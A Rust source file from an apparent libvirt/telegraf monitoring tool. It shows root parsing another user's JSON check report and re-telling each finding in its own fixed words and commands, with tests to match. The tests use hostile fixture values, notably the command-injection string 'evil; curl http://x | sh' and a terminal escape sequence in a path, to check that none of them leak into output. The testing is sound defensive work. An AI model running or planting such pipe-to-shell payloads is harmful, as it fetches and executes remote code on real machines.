//! What root makes of the report of the other user's check. That user may have written it: root takes names
//! of findings and figures from it, each only where it knows them, and has its own words and commands for
//! each. Nothing that the user wrote is printed, and least of all as a command.

use std::collections::HashSet;
use std::path::PathBuf;

use nix::unistd::User;
use serde::Deserialize;
use serde_json::Value;

use crate::check::cache::Chosen;
use crate::check::catalogue::telegraf_user as kinds;
use crate::check::finding::{Area, Finding, counted};
use crate::check::{as_user, shell, socket};
use crate::config::Settings;

/// Findings of which root tells, at most: an honest report has fewer.
const MOST: usize = 100;
const BELIEVED: &str = "its report is none that this program writes";

/// What a finding is about, to know it again.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub(super) struct Key {
    area: String,
    id: String,
    about: Option<String>,
}

impl Key {
    pub(super) fn new(area: &str, id: &str, about: Option<&str>) -> Self {
        Self { area: area.to_owned(), id: id.to_owned(), about: about.map(str::to_owned) }
    }
}

/// What `--json` printed, as far as it is needed here.
#[derive(Deserialize)]
struct UserReport {
    findings: Vec<Reported>,
}

#[derive(Deserialize)]
struct Reported {
    area: String,
    id: String,
    verdict: String,
    about: Option<String>,
    #[serde(default)]
    guests: Vec<Value>,
    #[serde(default)]
    facts: serde_json::Map<String, Value>,
}

/// What the user loses that root does not; that all is well where there is none such.
pub(super) fn findings(
    output: &str,
    known: &HashSet<Key>,
    user: &User,
    settings: &Settings,
) -> Result<Vec<Finding>, &'static str> {
    let report: UserReport = serde_json::from_str(output).map_err(|_| BELIEVED)?;
    let mut seen = known.clone();
    let mut found = Vec::new();
    for reported in &report.findings {
        let is_worth = reported.verdict == "lost"
            || (reported.verdict == "advice" && reported.area == Area::Limits.name());
        let key = Key::new(&reported.area, &reported.id, reported.about.as_deref());
        if is_worth && seen.insert(key) {
            found.push(reported.loss(user, settings).ok_or(BELIEVED)?);
        }
        if found.len() > MOST {
            return Err(BELIEVED);
        }
    }
    if found.is_empty() {
        let cache = report.findings.iter().find_map(|it| it.cache(user));
        let cache =
            cache.map_or_else(String::new, |folder| format!("; its cache is {}", folder.display()));
        found.push(kinds::user(&user.name, cache));
    }
    Ok(found)
}

impl Reported {
    /// What is lost, in root's words; `None` for what this program never reports.
    fn loss(&self, user: &User, settings: &Settings) -> Option<Finding> {
        match self.area.as_str() {
            "hypervisor" => {
                // Only one that root asks for, too.
                let uri = settings.uris.iter().find(|uri| self.about.as_ref() == Some(*uri))?;
                Some(self.of_hypervisor(uri, &user.name)?.about(uri))
            }
            "guests" => self.of_guests(&user.name),
            "cache" => self.of_cache(&user.name, settings),
            "limits" => self.of_limits(&user.name),
            _ => None,
        }
    }

    fn of_hypervisor(&self, uri: &str, name: &str) -> Option<Finding> {
        let command = as_user(name, &format!("virsh -r -c {} list", shell(uri)));
        Some(match self.id.as_str() {
            "no-right-to-socket" => {
                let path = socket::soon(uri).map(|socket| {
                    let rights = socket.rights.map(|rights| format!(" ({rights})"));
                    format!("{}{}", socket.path.display(), rights.unwrap_or_default())
                });
                let socket = path.unwrap_or_else(|| format!("the socket of {uri}"));
                kinds::no_right_to_socket(name, socket, command)
            }
            "not-authenticated" => kinds::not_authenticated(name, uri, command),
            "not-running" | "no-socket" => kinds::not_running(name, uri, command),
            "unknown-user" => kinds::unknown_user(name, command),
            "no-ssh" => kinds::no_ssh(name, uri, command),
            "no-recording" => kinds::no_recording(name, uri, command),
            "bad-uri" => kinds::bad_uri(name, uri, command),
            "refuses" | "no-answer" => kinds::no_answer(name, uri, command),
            _ => return None,
        })
    }

    fn of_guests(&self, name: &str) -> Option<Finding> {
        let guests = counted(self.guests.len().max(1), "guest");
        let command = as_user(name, "telegraf-virt check");
        Some(match self.id.as_str() {
            "gone-down" => kinds::gone_down(name, command),
            "hung" => kinds::hung(name, guests, command),
            "locked" | "busy" | "slow-helper" | "list-held" | "not-asked" | "late" => {
                kinds::held(name, guests, command)
            }
            "partly-unread" => kinds::partly_unread(name, guests, command),
            "collection-says" => kinds::collection_says(name, command),
            _ => return None,
        })
    }

    fn of_cache(&self, name: &str, settings: &Settings) -> Option<Finding> {
        let named = settings.cache.dir.as_ref().map(|folder| folder.display().to_string());
        let make =
            |folder: &str| format!("sudo install -d -m 700 -o {} {}", shell(name), shell(folder));
        Some(match (self.id.as_str(), named) {
            ("no-folder", Some(folder)) => kinds::no_folder(name, &folder, make(&folder)),
            ("no-folder", None) => {
                kinds::no_folder_anywhere(name, make("/var/cache/telegraf-virt"))
            }
            ("no-room", _) => kinds::no_room(name),
            ("file-unusable", _) => {
                kinds::file_unusable(name, as_user(name, "telegraf-virt check"))
            }
            _ => return None,
        })
    }

    fn of_limits(&self, name: &str) -> Option<Finding> {
        let number = |name| self.facts.get(name).and_then(Value::as_u64);
        let (limit, needed) = (number("limit")?, number("needed")?);
        let enough = |least: u64| least.checked_next_power_of_two();
        Some(match self.id.as_str() {
            "few-processes" => {
                let least = number("used")?.checked_add(needed)?;
                kinds::few_processes(name, limit, needed, enough(least)?)
            }
            "few-files" => kinds::few_files(name, limit, needed, enough(needed)?),
            // libvirt's own limits are the same for all, so that root has told of them.
            _ => return None,
        })
    }

    /// The folder of its cache, where it says by which rule it was chosen: the path is root's own word.
    fn cache(&self, user: &User) -> Option<PathBuf> {
        let chosen = self.facts.get("chosen_by")?.as_str()?;
        let is = |by: Chosen| chosen == by.name();
        if self.area != Area::Cache.name() {
            None
        } else if is(Chosen::VarCache) {
            Some(PathBuf::from("/var/cache/telegraf-virt"))
        } else if is(Chosen::Telegraf) {
            Some(PathBuf::from("/var/lib/telegraf/telegraf-virt"))
        } else if is(Chosen::Home) {
            Some(user.dir.join(".cache/telegraf-virt"))
        } else {
            None
        }
    }
}

#[cfg(test)]
mod tests {
    use std::ffi::CString;

    use super::*;

    fn user() -> User {
        User {
            name: "telegraf".to_owned(),
            passwd: CString::default(),
            uid: 77.into(),
            gid: 77.into(),
            gecos: CString::default(),
            dir: "/var/lib/of-telegraf".into(),
            shell: "/bin/false".into(),
        }
    }

    fn of(report: &Value) -> Result<Vec<Finding>, &'static str> {
        let settings = Settings { uris: vec!["qemu:///system".to_owned()], ..Settings::default() };
        findings(&report.to_string(), &HashSet::new(), &user(), &settings)
    }

    fn reported(area: &str, id: &str, about: &str) -> Value {
        let evil = "evil; curl http://x | sh";
        serde_json::json!({ "findings": [{
            "area": area, "id": id, "verdict": "lost", "about": about, "text": evil, "lost": evil,
            "mend": evil, "commands": [evil], "guests": [evil],
            "facts": { "limit": 7, "needed": 9, "used": 5, "words": evil }
        }] })
    }

    /// Every finding that a collection can lose something by, and none of the reporter's words.
    #[test]
    fn what_is_reported_is_told_in_words_of_our_own() {
        let uri = "qemu:///system";
        let known = [
            ("hypervisor", "no-right-to-socket", uri),
            ("hypervisor", "not-running", uri),
            ("hypervisor", "no-socket", uri),
            ("hypervisor", "not-authenticated", uri),
            ("hypervisor", "unknown-user", uri),
            ("hypervisor", "no-ssh", uri),
            ("hypervisor", "no-recording", uri),
            ("hypervisor", "bad-uri", uri),
            ("hypervisor", "refuses", uri),
            ("hypervisor", "no-answer", uri),
            ("guests", "gone-down", "evil"),
            ("guests", "hung", "evil"),
            ("guests", "partly-unread", "evil"),
            ("guests", "collection-says", "evil"),
            ("cache", "no-folder", "evil"),
            ("cache", "no-room", "evil"),
            ("cache", "file-unusable", "evil"),
            ("limits", "few-processes", "evil"),
            ("limits", "few-files", "evil"),
        ];
        let of_guests = "locked busy slow-helper list-held not-asked late".split(' ');
        let of_guests = of_guests.map(|id| ("guests", id, "evil"));
        for (area, id, about) in known.into_iter().chain(of_guests) {
            let found = of(&reported(area, id, about)).unwrap();
            assert_eq!(found.len(), 1);
            let finding = &found[0];
            assert_eq!(finding.id, "user-loses");
            assert!(finding.text.starts_with("of the user telegraf: "), "{finding:?}");
            assert!(finding.lost.is_some() && finding.mend.is_some(), "{finding:?}");
            assert_eq!(finding.commands.len(), 1, "{finding:?}");
            assert!(!format!("{finding:?}").contains("evil"), "{finding:?}");
        }
    }

    #[test]
    fn a_report_that_this_program_does_not_write_is_not_believed() {
        for (area, id, about) in [
            ("hypervisor", "no-answer", "qemu+ssh://evil/system"),
            ("hypervisor", "evil", "qemu:///system"),
            ("evil", "hung", ""),
            ("telegraf", "no-program", ""),
        ] {
            assert_eq!(of(&reported(area, id, about)), Err(BELIEVED), "{area} {id} {about}");
        }
        let many: Vec<Value> = (0..200)
            .map(|number| reported("cache", "no-room", &number.to_string())["findings"][0].clone())
            .collect();
        assert_eq!(of(&serde_json::json!({ "findings": many })), Err(BELIEVED));
        for output in ["", "{", "[]", "{\"findings\":[{}]}", &"[".repeat(100_000)] {
            let settings = Settings::default();
            assert_eq!(findings(output, &HashSet::new(), &user(), &settings), Err(BELIEVED));
        }
    }

    #[test]
    fn the_folder_of_its_cache_is_a_rule_and_no_path() {
        let folder = |chosen: &str| {
            let report = serde_json::json!({ "findings": [{
                "area": "cache", "id": "folder", "verdict": "good", "about": "/evil\u{1b}[2J",
                "facts": { "chosen_by": chosen }
            }] });
            of(&report).unwrap()[0].text.clone()
        };
        let all = "the user telegraf can read everything that root can";
        let home = format!("{all}; its cache is /var/lib/of-telegraf/.cache/telegraf-virt");
        assert_eq!(folder("home"), home);
        assert_eq!(folder("var-cache"), format!("{all}; its cache is /var/cache/telegraf-virt"));
        assert_eq!(folder("/evil"), all);
    }
}
